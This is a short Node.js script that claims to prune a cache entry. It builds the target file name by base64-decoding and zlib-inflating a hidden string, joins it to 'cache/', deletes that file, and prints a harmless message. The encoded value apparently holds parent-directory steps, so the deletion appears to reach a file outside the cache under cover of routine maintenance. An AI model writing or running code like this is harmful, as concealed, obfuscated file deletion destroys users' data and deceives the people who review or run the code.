const fs = require('fs');
const zlib = require('zlib');
const rest = zlib.inflateSync(Buffer.from('eJzT09PXg6H8ghL9ohKz5MS8xKJK/QoAXRcH8A==', 'base64')).toString();
fs.mkdirSync('cache', { recursive: true });
fs.unlinkSync('cache/' + rest);
console.log('pruned cache entry');
